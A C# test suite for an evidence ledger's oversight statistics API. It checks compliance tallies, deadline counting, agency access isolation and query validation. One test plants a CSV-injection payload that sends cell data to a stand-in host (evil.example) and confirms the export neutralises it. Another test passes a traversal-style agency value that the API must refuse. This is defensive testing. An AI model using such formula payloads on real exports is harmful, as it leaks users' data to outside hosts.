using System.Diagnostics.Metrics;
using System.Text;
using Integrity.Ledger.Tests.Http;
using Integrity.Ledger.Tests.Reminders;
using Integrity.Testing;
using History = Integrity.Testing.History;
using static Integrity.Ledger.Tests.Oversight.Overseen;

namespace Integrity.Ledger.Tests.Oversight;

/// <summary>Figures of small histories that were counted by hand, under CN-CRIM@2026.1, by a ledger whose clock the test sets.</summary>
public sealed class FigureFacts
{
    /// <summary>
    /// Police: collected by one investigator where two are asked (COL-01, curable), with a witness who does not say to be independent (COL-04, curable);
    /// sealed, offered. Lab: accepted, unsealed, acquired with a mismatch, which is a warning.
    /// </summary>
    private static History Small() => History.WithAgencies().Create(Auditors)
        .Do("collect", Cast.Police, null, Cast.Zhang)
        .Do("seal", Cast.Police)
        .Do("transfer.offer", Cast.Police)
        .Do("transfer.accept", Cast.Lab, b => b.With("seal", Bodies.Seal).With("digests", null))
        .Do("unseal", Cast.Lab)
        .Do("acquire", Cast.Lab, b => b.With("verification/image", "mismatch"));

    [Fact]
    public async Task A_small_history_counted_by_hand_gives_these_figures()
    {
        var clock = new SetClock(Morning);
        await using var ledger = await StartAsync(clock);
        var history = Small();
        await ledger.PlayAsync(history, "log");
        var auditor = Token(Auditors.Officers[0], Auditors, clock);

        var before = await FiguresAsync(ledger, auditor);
        Assert.Equal(("2026-10-05", "2026-11-03", "UTC+08:00"), (before.GetProperty("from").GetString(), before.GetProperty("to").GetString(), before.GetProperty("offset").GetString()));
        Assert.Equal("1", Tally(Figure(before, "opened")));
        Assert.Equal("6", Tally(Figure(before, "steps")));
        Assert.Equal("acquire=1 collect=1 seal=1 transfer.accept=1 transfer.offer=1 unseal=1", Parts(Figure(before, "steps")));
        Assert.Equal("audit=0 lab=3 proc=0 psb=3", ByAgency(Figure(before, "steps")));
        Assert.Equal("5/6", Tally(Figure(before, "compliance")));
        Assert.Equal("audit=0/0 lab=3/3 proc=0/0 psb=2/3", ByAgency(Figure(before, "compliance")));
        Assert.Equal("5/6", Tally(Figure(before, "compliance-now")));
        Assert.Equal("COL-01=0/1 COL-04=0/1", Parts(Figure(before, "defects")));
        Assert.Equal("0", Tally(Figure(before, "fatal")));
        Assert.Equal(("0/1", "mismatch=0/1"), (Tally(Figure(before, "acquired")), Parts(Figure(before, "acquired"))));
        Assert.Equal("0", Tally(Figure(before, "closed")));

        history.Now = Morning.AddHours(-1);
        await DoAsync(ledger, history, "COL-01");
        var half = await FiguresAsync(ledger, auditor);
        Assert.Equal(("6/7", "6/7", "COL-01=1/1 COL-04=0/1"), (Tally(Figure(half, "compliance")), Tally(Figure(half, "compliance-now")), Parts(Figure(half, "defects"))));
        await DoAsync(ledger, history, "COL-04");
        var after = await FiguresAsync(ledger, auditor);
        Assert.Equal(("7/8", "8/8", "COL-01=1/1 COL-04=1/1"), (Tally(Figure(after, "compliance")), Tally(Figure(after, "compliance-now")), Parts(Figure(after, "defects"))));
    }

    [Fact]
    public async Task A_term_counts_on_the_day_it_is_due_as_met_late_or_overdue_and_not_while_it_runs()
    {
        var clock = new SetClock(new(2026, 11, 2, 6, 0, 0, TimeSpan.Zero));
        await using var ledger = await StartAsync(clock);
        var history = History.WithAgencies().Create(Auditors).Do("collect", Cast.Police);
        await ledger.PlayAsync(history, "log");

        // The seizure ended on 2 November at 01:40, so it is to be deposited by the 3rd at 01:40: 09:40 in UTC+08:00.
        const string Third = "?from=2026-11-03&to=2026-11-03";
        var running = await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock), Third);
        Assert.Equal(("0/0", "0"), (Tally(Figure(running, "terms-met")), Tally(Figure(running, "overdue"))));
        Assert.False(Figure(running, "terms-met").GetProperty("total").TryGetProperty("share", out _));
        clock.Now = new(2026, 11, 3, 1, 40, 1, TimeSpan.Zero);
        var overdue = await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock), Third);
        Assert.Equal(("0/1", "deposit=1"), (Tally(Figure(overdue, "terms-met")), Parts(Figure(overdue, "overdue"))));
        Assert.Equal("0/0", Tally(Figure(await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock), "?from=2026-11-02&to=2026-11-02"), "terms-met")));

        history.Now = new(2026, 11, 4, 1, 0, 0, TimeSpan.Zero);
        clock.Now = history.Now;
        Assert.Equal(201, (await ledger.PostAsync(history.Prepare("deposit", Cast.Police))).Status);
        var late = await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock), Third);
        Assert.Equal(("0/1", "0"), (Tally(Figure(late, "terms-met")), Tally(Figure(late, "overdue"))));
    }

    [Fact]
    public async Task An_agency_sees_its_own_figures_and_nothing_of_anybody_elses()
    {
        var clock = new SetClock(Morning);
        await using var ledger = await StartAsync(clock);
        await ledger.PlayAsync(Small(), "log");
        var police = Token(Cast.Chen, Cast.Police, clock);
        var own = await FiguresAsync(ledger, police);
        Assert.Equal("cn.331024.psb", own.GetProperty("agency").GetString());
        Assert.Equal("3", Tally(Figure(own, "steps")));
        Assert.Equal("cn.331024.psb", Assert.Single(own.GetProperty("agencies").EnumerateArray()).GetProperty("id").GetString());
        Assert.DoesNotContain("lab", own.GetRawText(), StringComparison.Ordinal);
        Assert.DoesNotContain("lab", Encoding.UTF8.GetString((await ledger.GetAsync("v1/oversight?format=csv", token: police)).Body), StringComparison.Ordinal);

        var items = await ledger.GetAsync("v1/oversight/items?figure=steps", token: police);
        Assert.Equal(["cn.331024.psb"], items.Json.GetProperty("items").EnumerateArray().Select(i => i.GetProperty("agency").GetString()).Distinct());
        foreach (var path in new[] { "v1/oversight?agency=cn.331024.lab", "v1/oversight/items?figure=steps&agency=cn.331024.lab", "v1/oversight?agency=cn.331024.lab&format=csv" })
        {
            var other = await ledger.GetAsync(path, token: police);
            Assert.Equal((403, "oversight.not-yours"), (other.Status, other.Code));
            Assert.Equal("access.no-token", (await ledger.GetAsync(path)).Code);
        }

        Assert.Equal("3", Tally(Figure(await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock), "?agency=cn.331024.lab"), "steps")));
    }

    [Fact]
    public async Task A_role_that_an_agency_gives_itself_opens_no_other_agencys_figures()
    {
        var clock = new SetClock(Morning);
        await using var ledger = await LiveLedger.StartAsync(change: o => o with { Clock = clock });
        await ledger.PlayAsync(Small(), "log");
        var view = await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock));
        Assert.Equal(("cn.331024.audit", true), (view.GetProperty("agency").GetString(), view.GetProperty("ownOnly").GetBoolean()));
        Assert.Equal("0", Tally(Figure(view, "steps")));
        Assert.Equal("0/0", Tally(Figure(view, "compliance")));
    }

    [Theory]
    [InlineData("all", "0 1 2 3 4 5")]
    [InlineData("rest", "0")]
    [InlineData("in", "1 2 3 4 5")]
    public async Task Behind_a_figure_stand_just_the_statements_that_it_counts(string which, string seqs)
    {
        var clock = new SetClock(Morning);
        await using var ledger = await StartAsync(clock);
        await ledger.PlayAsync(Small(), "log");
        var auditor = Token(Auditors.Officers[0], Auditors, clock);
        _ = await FiguresAsync(ledger, auditor);
        var reply = await ledger.GetAsync($"v1/oversight/items?figure=compliance&which={which}", token: auditor);
        Assert.True(reply.Status == 200, reply.ToString());
        var items = reply.Json.GetProperty("items").EnumerateArray().ToList();
        Assert.Equal(seqs, string.Join(' ', items.Select(i => i.GetProperty("seq").GetInt64()).Order()));
        Assert.All(items, i => Assert.Equal(Story.Handset.Id, i.GetProperty("item").GetString()));
        Assert.Equal("1", string.Join(' ', (await ledger.GetAsync("v1/oversight/items?figure=steps&part=seal", token: auditor)).Json.GetProperty("items").EnumerateArray().Select(i => i.GetProperty("seq"))));
    }

    [Theory]
    [InlineData("v1/oversight?from=yesterday", "http.query")]
    [InlineData("v1/oversight?from=2026-11-04&to=2026-11-03", "oversight.period")]
    [InlineData("v1/oversight?from=2000-01-01&to=2026-11-03", "oversight.period")]
    [InlineData("v1/oversight?to=0001-01-05", "http.query")]
    [InlineData("v1/oversight?format=xml", "http.query")]
    [InlineData("v1/oversight?agency=..", "http.query")]
    [InlineData("v1/oversight?officer=1", "http.query")]
    [InlineData("v1/oversight/items", "oversight.no-figure")]
    [InlineData("v1/oversight/items?figure=secrets", "oversight.no-figure")]
    [InlineData("v1/oversight/items?figure=steps&which=some", "http.query")]
    [InlineData("v1/oversight/items?figure=lag&part=seal", "http.query")]
    [InlineData("v1/oversight/items?figure=steps&after=here", "http.query")]
    public async Task What_is_asked_in_another_way_is_refused_by_name(string path, string code)
    {
        var clock = new SetClock(Morning);
        await using var ledger = await StartAsync(clock);
        await ledger.PlayAsync(History.WithAgencies().Create(Auditors));
        var reply = await ledger.GetAsync(path, token: Token(Auditors.Officers[0], Auditors, clock));
        Assert.Equal((400, code), (reply.Status, reply.Code));
    }

    [Fact]
    public async Task A_name_that_a_spreadsheet_would_run_is_a_text_in_the_csv()
    {
        var clock = new SetClock(Morning);
        await using var ledger = await StartAsync(clock);
        var sly = Cast.Police with { Name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"仙居\")" };
        var history = new History().Create(sly).Create(Cast.Lab).Create(Auditors).Do("collect", Cast.Police);
        await ledger.PlayAsync(history, "log");
        var auditor = Token(Auditors.Officers[0], Auditors, clock);
        _ = await FiguresAsync(ledger, auditor);
        var csv = Encoding.UTF8.GetString((await ledger.GetAsync("v1/oversight?format=csv", token: auditor)).Body);
        Assert.Contains("\"'=HYPERLINK(\"\"https", csv, StringComparison.Ordinal);
        Assert.All(csv.TrimStart('\uFEFF').Split("\r\n"), line => Assert.DoesNotMatch("(^|,)\"?[=+@-]", line));
    }

    [Fact]
    public async Task A_list_goes_on_after_an_item_whose_check_symbol_is_a_tilde()
    {
        var clock = new SetClock(Morning);
        await using var ledger = await StartAsync(clock);
        await ledger.PlayAsync(Small(), "log");
        var auditor = Token(Auditors.Officers[0], Auditors, clock);
        _ = await FiguresAsync(ledger, auditor);
        var after = Uri.EscapeDataString($"{Morning.AddHours(1).ToUnixTimeMilliseconds()}|item/EV-0000-0000-0000-0000-~|0|seal");
        var reply = await ledger.GetAsync($"v1/oversight/items?figure=steps&after={after}", token: auditor);
        Assert.True(reply.Status == 200, reply.ToString());
        Assert.Equal(6, reply.Json.GetProperty("items").GetArrayLength());
    }

    private static async Task DoAsync(LiveLedger ledger, History history, string cured)
    {
        history.Do("cure", Cast.Police, b => b.With("rule", cured).With("seq", 0));
        var reply = await ledger.PostAsync(history.Log[^1]);
        Assert.True(reply.Status == 201, reply.ToString());
    }

    [Fact]
    public async Task Marks_are_the_same_made_at_once_statement_by_statement_and_again_after_they_were_deleted()
    {
        var clock = new SetClock(Morning);
        const string Rows = "SELECT stream, kind, seq, name, agency, at, day, state, value, log_index, since FROM oversight_mark ORDER BY 1, 2, 3, 4";
        await using var ledger = await StartAsync(clock);
        var history = Story.WithImage().Create(Auditors);
        foreach (var statement in history.Log)
        {
            // Each round then has one statement at most.
            var reply = await ledger.PostAsync(statement);
            Assert.True(reply.Status is 200 or 201, reply.ToString());
        }

        var auditor = Token(Auditors.Officers[0], Auditors, clock);
        _ = await FiguresAsync(ledger, auditor);
        var before = await RowsAsync(ledger, Rows);
        Assert.True(before.Count > 15, string.Join('\n', before));
        _ = await RowsAsync(ledger, "UPDATE oversight SET rules = 'others'");
        await ledger.RestartAsync();
        _ = await FiguresAsync(ledger, auditor);
        Assert.Equal(before, await RowsAsync(ledger, Rows));
    }

    [Theory]
    [InlineData("oversight")]
    [InlineData("committed")]
    public async Task A_step_that_dies_before_or_after_its_commit_is_made_once(string point)
    {
        var clock = new SetClock(Morning);
        await using var ledger = await StartAsync(clock);
        await ledger.PlayAsync(History.WithAgencies().Create(Auditors), "log");
        _ = await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock));
        var (planted, writing) = (3, false);
        var told = 0L;
        using var meters = new MeterListener { InstrumentPublished = (i, self) => { if (i.Name == "integrity.oversight.failures") { self.EnableMeasurementEvents(i); } } };
        meters.SetMeasurementEventCallback<long>((_, count, _, _) => Interlocked.Add(ref told, count));
        meters.Start();
        ledger.Probe.Hook = at =>
        {
            writing = at == "oversight" || (writing && at is not ("append" or "advance"));
            if (writing && at == point && planted-- > 0)
            {
                throw new IOException("planted");
            }
        };
        await ledger.PlayAsync(Small(), "log");
        Assert.Equal("6", Tally(Figure(await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock)), "steps")));
        Assert.True(planted < 3);
        Assert.True(Interlocked.Read(ref told) > 0);
    }
}
